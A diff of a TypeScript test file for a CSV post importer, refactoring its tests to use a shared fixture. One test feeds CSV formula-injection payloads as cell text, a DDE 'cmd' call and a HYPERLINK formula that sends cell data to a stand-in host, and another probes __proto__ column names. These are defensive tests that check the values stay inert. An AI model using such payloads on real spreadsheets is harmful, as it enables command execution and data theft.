@@ -2,20 +2,9 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { gzipSync } from 'node:zlib';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect } from 'vitest';
 import * as fc from '../../testing/fast-check.ts';
-import { type CsvTest, type CsvWorld, createCsvTest, csvOf, ROW } from './csv-imports.fixture.ts';
-
-let test: CsvTest;
-let csv: CsvWorld;
-beforeAll(async () => {
-  test = await createCsvTest();
-  csv = await test.fresh();
-});
-afterAll(async () => {
-  expect(test.problems).toEqual([]);
-  await test.sim.close();
-});
+import { csvOf, it, ROW } from './csv-imports.fixture.ts';
 
 const HEADER = Object.keys(ROW).join(',');
 const LINE = Object.values(ROW).join(',');
@@ -33,7 +22,7 @@ const EMPTY_ZIP = bytes(
 );
 
 describe('[CSV-23, D-CSV-03] a file fails as a whole, and makes no post, when it', () => {
-  it.each<[string, string | Uint8Array, string]>([
+  it.for<[string, string | Uint8Array, string]>([
     ['is UTF-16, little-endian', utf16(GOOD), NOT_TEXT],
     ['is UTF-16, big-endian', utf16(GOOD).swap16(), NOT_TEXT],
     ['is UTF-16 without a mark', Buffer.from(GOOD, 'utf16le'), NOT_TEXT],
@@ -56,23 +45,23 @@ describe('[CSV-23, D-CSV-03] a file fails as a whole, and makes no post, when it
     ['names its columns otherwise', GOOD.replace('title', 'Title'), 'The header lacks the required column title.'],
     ['never closes a quote', `${GOOD}"${GOOD}`, 'The file is not readable as CSV: in row 2 a quote is never closed.'],
     ['never closes a quote in its header', `"${GOOD}`, 'The file is not readable as CSV: in the header a quote is never closed.'],
-  ])('%s', async (_, file, error) => {
-    const { entity, rows } = await csv.work(file);
+  ])('%s', async ([, file, error], { acme }) => {
+    const { entity, rows } = await acme.work(file);
     expect(entity).toMatchObject({ status: 'FAILED', error, startedAt: null, processedRows: 0, successRows: 0, failedRows: 0 });
     expect(entity.completedAt).toBe(entity.updatedAt);
-    expect([rows, await csv.countPosts()]).toEqual([[], 0]);
+    expect([rows, await acme.countPosts()]).toEqual([[], 0]);
   });
 
-  it.each(['teamId', 'title', 'postDate', 'status', 'socialAccountTypes'])('lacks the column %s', async column => {
+  it.for(['teamId', 'title', 'postDate', 'status', 'socialAccountTypes'])('lacks the column %s', async (column, { acme }) => {
     const { [column]: _, ...row } = ROW as Readonly<Record<string, string>>;
-    const { entity, rows } = await csv.work(csvOf(row, row));
+    const { entity, rows } = await acme.work(csvOf(row, row));
     expect([entity.status, entity.error, rows]).toEqual(['FAILED', `The header lacks the required column ${column}.`, []]);
-    expect(await csv.countPosts()).toBe(0);
+    expect(await acme.countPosts()).toBe(0);
   });
 });
 
 describe('a file is taken', () => {
-  it.each<[string, string | Uint8Array]>([
+  it.for<[string, string | Uint8Array]>([
     ['with a byte order mark', `\ufeff${GOOD}`],
     ['without a line end at its end', GOOD.trimEnd()],
     ['with lines of Windows', GOOD.replaceAll('\n', '\r\n')],
@@ -81,44 +70,44 @@ describe('a file is taken', () => {
     ['with its header in quotes', `${HEADER.split(',').map(name => `"${name}"`)}\n${LINE}\n`],
     ['with spaces around its column names', `${HEADER.replaceAll(',', ' , ')}\n${LINE}\n`],
     ['with its columns in another order', `${HEADER.split(',').toReversed()}\n${LINE.split(',').toReversed()}\n`],
-  ])('%s', async (_, file) => {
-    const { row } = await csv.work(file);
+  ])('%s', async ([, file], { acme }) => {
+    const { row } = await acme.work(file);
     expect([row.error, row.rawRow]).toEqual([null, ROW]);
   });
 
-  it('with columns that nobody knows, a thousand even', async () => {
+  it('with columns that nobody knows, a thousand even', async ({ acme }) => {
     const others = Object.fromEntries(Array.from({ length: 1000 }, (_, n) => [`column ${n}`, `cell ${n}`]));
-    const { row } = await csv.work(csvOf({ ...others, ...ROW }));
+    const { row } = await acme.work(csvOf({ ...others, ...ROW }));
     expect([row.error, row.rawRow]).toEqual([null, { ...others, ...ROW }]);
     expect(row.normalizedPayload).toMatchObject({ data: { TWITTER: { text: 'It is here' } } });
   });
 
-  it('with a column twice, of which the last counts', async () => {
-    const { row } = await csv.work(`title,${HEADER}\nFirst,${LINE}\n`);
+  it('with a column twice, of which the last counts', async ({ acme }) => {
+    const { row } = await acme.work(`title,${HEADER}\nFirst,${LINE}\n`);
     expect([row.rawRow['title'], row.normalizedPayload]).toMatchObject(['Spring launch', { title: 'Spring launch' }]);
   });
 
-  it('with columns that have no name, or a strange one', async () => {
-    const { row } = await csv.work(`,__proto__,constructor,${HEADER}\na,b,c,${LINE}\n`);
+  it('with columns that have no name, or a strange one', async ({ acme }) => {
+    const { row } = await acme.work(`,__proto__,constructor,${HEADER}\na,b,c,${LINE}\n`);
     expect(row.error).toBeNull();
     expect(JSON.stringify(row.rawRow)).toBe(
       JSON.stringify(JSON.parse(`{"__proto__":"b","constructor":"c"}`)).replace('}', `,${JSON.stringify(ROW).slice(1)}`),
     );
   });
 
-  it('with a line that stops early', async () => {
+  it('with a line that stops early', async ({ acme }) => {
     const { text: _, ...rest } = ROW;
-    const { rows } = await csv.work(`${HEADER},note\n${LINE.split(',').slice(0, 5)}\n${LINE.split(',').slice(0, 2)}\n`);
+    const { rows } = await acme.work(`${HEADER},note\n${LINE.split(',').slice(0, 5)}\n${LINE.split(',').slice(0, 2)}\n`);
     expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
       [null, rest],
       ['postDate is required', { teamId: ROW.teamId, title: ROW.title }],
     ]);
   });
 
-  it.each([',late', ',', ',,'])(
+  it.for([',late', ',', ',,'])(
     'with a line that goes on behind the last column, even if nothing stands there: its row fails',
-    async more => {
-      const { rows } = await csv.work(`${GOOD}${LINE}${more}\n${LINE}\n`);
+    async (more, { acme }) => {
+      const { rows } = await acme.work(`${GOOD}${LINE}${more}\n${LINE}\n`);
       const cells = 6 + more.split(',').length - 1;
       expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
         [null, ROW],
@@ -128,25 +117,25 @@ describe('a file is taken', () => {
     },
   );
 
-  it.each(["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1)', '+1+1', '-1', '@SUM(1)', '\t=1'])(
+  it.for(["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1)', '+1+1', '-1', '@SUM(1)', '\t=1'])(
     'with the formula %j, which is text',
-    async text => {
-      const { row } = await csv.work(csvOf({ ...ROW, title: text, text }));
+    async (text, { acme }) => {
+      const { row } = await acme.work(csvOf({ ...ROW, title: text, text }));
       expect(row.rawRow).toMatchObject({ title: text, text });
-      expect(await csv.post(row.postId)).toMatchObject({ title: text, data: { TWITTER: { text } } });
+      expect(await acme.post(row.postId)).toMatchObject({ title: text, data: { TWITTER: { text } } });
     },
   );
 
-  it('with NUL and other strange characters, which are text', async () => {
+  it('with NUL and other strange characters, which are text', async ({ acme }) => {
     const text = 'a\0b\u0007c\u200b\u202ed\ufffe💥';
-    const { row } = await csv.work(csvOf({ ...ROW, text }));
+    const { row } = await acme.work(csvOf({ ...ROW, text }));
     expect([row.error, row.rawRow['text']]).toEqual([null, text]);
-    expect((await csv.post(row.postId)).data.TWITTER?.text).toBe(text);
+    expect((await acme.post(row.postId)).data.TWITTER?.text).toBe(text);
   });
 
-  it('with a cell of 10 MB: as a text its row fails in few words, elsewhere it does not count', async () => {
+  it('with a cell of 10 MB: as a text its row fails in few words, elsewhere it does not count', async ({ acme }) => {
     const huge = 'x'.repeat(10 * 1_048_576);
-    const { rows, entity } = await csv.work(csvOf({ ...ROW, text: huge }, { ...ROW, note: huge }, ROW));
+    const { rows, entity } = await acme.work(csvOf({ ...ROW, text: huge }, { ...ROW, note: huge }, ROW));
     expect(rows.map(({ error }) => error)).toEqual(['data.TWITTER.text must be at most 25000 characters long', null, null]);
     expect(rows[1]?.rawRow['note']).toHaveLength(huge.length);
     expect(entity.status).toBe('COMPLETED_WITH_ERRORS');
@@ -163,10 +152,10 @@ describe('whatever the bytes', () => {
       return file;
     });
 
-  it('the file is taken, and its import ends', async () => {
+  it('the file is taken, and its import ends', async ({ acme }) => {
     await fc.assert(
       fc.asyncProperty(fc.oneof(spoilt, fc.uint8Array({ maxLength: 300 })), async file => {
-        const { entity, rows } = await csv.work(file);
+        const { entity, rows } = await acme.work(file);
         expect(['COMPLETED', 'COMPLETED_WITH_ERRORS', 'FAILED']).toContain(entity.status);
         expect(entity.processedRows).toBe(entity.status === 'FAILED' ? 0 : entity.totalRows);
         expect(rows).toHaveLength(entity.processedRows);
@@ -186,17 +175,17 @@ const SPECTRUM = readdirSync(`${CORPUS}csvs`).map(name => name.replace('.csv', '
 describe('the files of csv-spectrum', () => {
   it('are there', () => expect(SPECTRUM).toHaveLength(12));
 
-  it.each(SPECTRUM)('%s: is no import', async name => {
-    const { entity } = await csv.work(readFileSync(`${CORPUS}csvs/${name}.csv`));
+  it.for(SPECTRUM)('%s: is no import', async (name, { acme }) => {
+    const { entity } = await acme.work(readFileSync(`${CORPUS}csvs/${name}.csv`));
     expect([entity.status, entity.error]).toEqual(['FAILED', NO_COLUMNS]);
   });
 
-  it.each(SPECTRUM)('%s: behind the required columns is read as it was meant', async name => {
+  it.for(SPECTRUM)('%s: behind the required columns is read as it was meant', async (name, { acme }) => {
     const text = readFileSync(`${CORPUS}csvs/${name}.csv`, 'utf8');
     const [header] = /^.+/.exec(text) ?? [];
     const lineEnd = text.includes('\r\n') ? '\r\n' : '\n';
     const records = parse<{ raw: string }>(text, { raw: true, columns: true, relax_quotes: true });
-    const { rows } = await csv.work(
+    const { rows } = await acme.work(
       [`${HEADER},${header}`, ...records.map(({ raw }) => `${LINE},${raw.replace(/\r?\n$/, '')}`)].join(lineEnd),
     );
     const meant = [JSON.parse(readFileSync(`${CORPUS}json/${name}.json`, 'utf8'))].flat();
